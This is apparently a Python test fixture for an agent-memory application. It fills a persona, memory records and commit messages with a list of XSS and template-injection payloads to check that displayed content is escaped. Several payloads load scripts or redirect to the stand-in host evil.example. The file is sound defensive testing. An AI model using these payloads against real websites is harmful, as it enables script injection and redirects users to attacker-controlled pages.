"""Contents that try to be more than text wherever a page shows them, in every field that a memory has."""

from typing import Final

from agentmem.domain.change import Change
from agentmem.domain.event import Person
from agentmem.domain.ids import entity_id
from agentmem.domain.memory import Evidence, MemoryNode, MemoryType
from agentmem.domain.naming import canonical_name
from agentmem.domain.persona import Persona
from agentmem.ports.ledger import Commit
from agentmem.runtime.facade.app import App
from tests.support.nodes import NOON, a_memory

HOSTILE_AGENT: Final = "hostile"
RUNS: Final = "<script>window.hostile=1</script>"
HOSTILE: Final = (
    RUNS,
    "\"><img src=x onerror='window.hostile=1'>",
    "'><svg/onload=window.hostile=1>",
    "</textarea></title></script><script src=//evil.example/x.js></script>",
    "{{ 7*7 }}{% for x in y %}${7*7}",
    "javascript:window.hostile=1",
    "<a href='javascript:window.hostile=1'>x</a><base href=//evil.example>",
    "<form action=//evil.example><input name=csrf><button>go</button></form>",
    "<style>*{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "\u202eabc\u2066def\u200b\x1b[31m\x9b",
    "&lt;script&gt; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e",
    "<!--<script>--><![CDATA[<script>]]>",
    "罗小东" * 300 + RUNS,
)
"""Each is a whole attack by itself."""


async def plant_hostile(app: App) -> None:
    """An agent whose persona and memories are made of nothing else."""
    line = RUNS.replace("\n", " ")
    tenant = app.tenant
    await app.know_agent(
        Persona(id=HOSTILE_AGENT, name=line, role="\n".join(HOSTILE), goals=HOSTILE, boundaries=HOSTILE, style=RUNS)
    )
    nodes = [node for number, text in enumerate(HOSTILE) for node in _told(tenant, number, text)]
    changes = tuple(Change(act="add", after=node, reason=RUNS) for node in nodes)
    await app.journal.ledger.commit(Commit(tenant, f"run {RUNS}", f"by {RUNS}", NOON, changes))
    later = tuple(
        Change(
            act="refresh", before=node, after=node.revised(content=f"{node.content} {RUNS}", revision=2), reason=RUNS
        )
        for node in nodes
        if node.memory_type is MemoryType.OBSERVATION
    )
    await app.journal.ledger.commit(Commit(tenant, f"later {RUNS}", f"by {RUNS}", NOON, later))


def _told(tenant: str, number: int, text: str) -> list[MemoryNode]:
    """A turn and what was made of it, about a person who is called so."""
    name = "".join(letter for letter in text[:150] if letter.isprintable()).strip() or "x"
    person = entity_id(tenant, HOSTILE_AGENT, canonical_name(name))
    shared: dict[str, object] = {
        "tenant": tenant,
        "agent_id": HOSTILE_AGENT,
        "target_id": person,
        "target_name": Person(name=name).name,
        "user_name": name,
        "run_id": name,
        "speaker": text,
        "meta_data": {"turnIndex": number, text: text},
    }
    turn = a_memory(text, memory_type=MemoryType.CONVERSATION, kind="turn", **shared)
    made = a_memory(
        text,
        **{**shared, "attribute": text[:100], "value": text, "key": (text,), "kind": text},
        source_ids=(turn.memory_id,),
        evidence=(Evidence(memory_id=turn.memory_id, start=0, end=min(len(text), 9)),),
    )
    return [turn, made]
